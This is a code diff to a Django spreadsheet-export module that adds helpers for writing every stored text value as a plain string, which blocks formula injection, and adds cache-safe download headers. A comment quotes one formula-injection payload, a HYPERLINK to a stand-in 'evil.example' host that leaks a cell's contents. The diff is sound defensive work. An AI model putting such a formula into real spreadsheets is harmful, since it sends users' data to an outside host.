@@ -8,8 +8,11 @@ from django.http import HttpResponse
 from django.utils import timezone
 from django.utils.encoding import escape_uri_path
 from openpyxl import Workbook, load_workbook
+from openpyxl.cell import Cell
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
+
+from wenming.core.text import printable
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 FULL_WIDTH_DIGITS = str.maketrans("０１２３４５６７８９　", "0123456789 ")
@@ -71,31 +74,74 @@ def header_key(value) -> str:
     return re.sub(r"[\s*＊:：]", "", text)
 
 
+# --------------------------------------------------------------------------------------------- writing
+# Every cell written from stored text goes through `safe_cell` / `put_cell` / `append_row`: its control characters
+# removed (openpyxl refuses them, issue 19) and, being text, written as text. A title like
+# =HYPERLINK("http://evil.example/?leak="&A1,"点击查看") stays words in Excel, never a live formula: the cell is a
+# string cell (t="inlineStr"), which no spreadsheet evaluates, and the text is kept exactly (a re-import reads it
+# back unchanged, with no quote added).
+SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")
+
+
+def _set(cell: Cell, value) -> Cell:
+    value = printable(value)
+    cell.value = value
+    if isinstance(value, str):
+        cell.data_type = "s"  # never "f": openpyxl makes any text starting with "=" a formula
+    return cell
+
+
+def safe_cell(sheet, value) -> Cell:
+    """A cell for `sheet.append([...])` (normal or write-only sheets) holding `value`, text kept as text."""
+    return _set(Cell(sheet), value)
+
+
+def put_cell(sheet, row: int, column: int, value) -> Cell:
+    """`sheet.cell(row=…, column=…, value=…)` with the value written safely."""
+    return _set(sheet.cell(row=row, column=column), value)
+
+
+def append_row(sheet, values) -> None:
+    """`sheet.append(values)` with every value written safely."""
+    sheet.append([safe_cell(sheet, value) for value in values])
+
+
+def sheet_title(title: str) -> str:
+    """A worksheet name Excel accepts: no control characters or []:*?/\\, at most 31 characters."""
+    return SHEET_TITLE_FORBIDDEN.sub(" ", printable(str(title))).strip()[:31] or "Sheet"
+
+
 def build_workbook(title: str, headers: list[str], rows, *, widths: list[int] | None = None, note: str = "") -> Workbook:
     workbook = Workbook()
     sheet = workbook.active
-    sheet.title = title[:31]
+    sheet.title = sheet_title(title)
     start = 1
     if note:
-        sheet.cell(row=1, column=1, value=note).font = Font(color="666666")
+        put_cell(sheet, 1, 1, note).font = Font(color="666666")
         start = 2
     fill = PatternFill("solid", fgColor="DDE6F0")
     for column, header in enumerate(headers, start=1):
-        cell = sheet.cell(row=start, column=column, value=header)
+        cell = put_cell(sheet, start, column, header)
         cell.font = Font(bold=True)
         cell.fill = fill
         cell.alignment = Alignment(horizontal="center")
         sheet.column_dimensions[get_column_letter(column)].width = (widths or [])[column - 1] if widths and column <= len(widths) else 16
     for row in rows:
-        sheet.append(list(row))
+        append_row(sheet, row)
     sheet.freeze_panes = sheet.cell(row=start + 1, column=1)
     return workbook
+
+
+def download_response(content: bytes, filename: str, content_type: str) -> HttpResponse:
+    """An export as an attachment, never kept by a browser or proxy cache (it holds the unit's data)."""
+    response = HttpResponse(content, content_type=content_type)
+    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{escape_uri_path(filename)}"
+    response["Cache-Control"] = "private, no-store"
+    response["X-Content-Type-Options"] = "nosniff"
+    return response
 
 
 def xlsx_response(workbook: Workbook, filename: str) -> HttpResponse:
     buffer = io.BytesIO()
     workbook.save(buffer)
-    stamped = f"{filename}-{timezone.localtime():%Y%m%d-%H%M}.xlsx"
-    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
-    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{escape_uri_path(stamped)}"
-    return response
+    return download_response(buffer.getvalue(), f"{filename}-{timezone.localtime():%Y%m%d-%H%M}.xlsx", XLSX_TYPE)
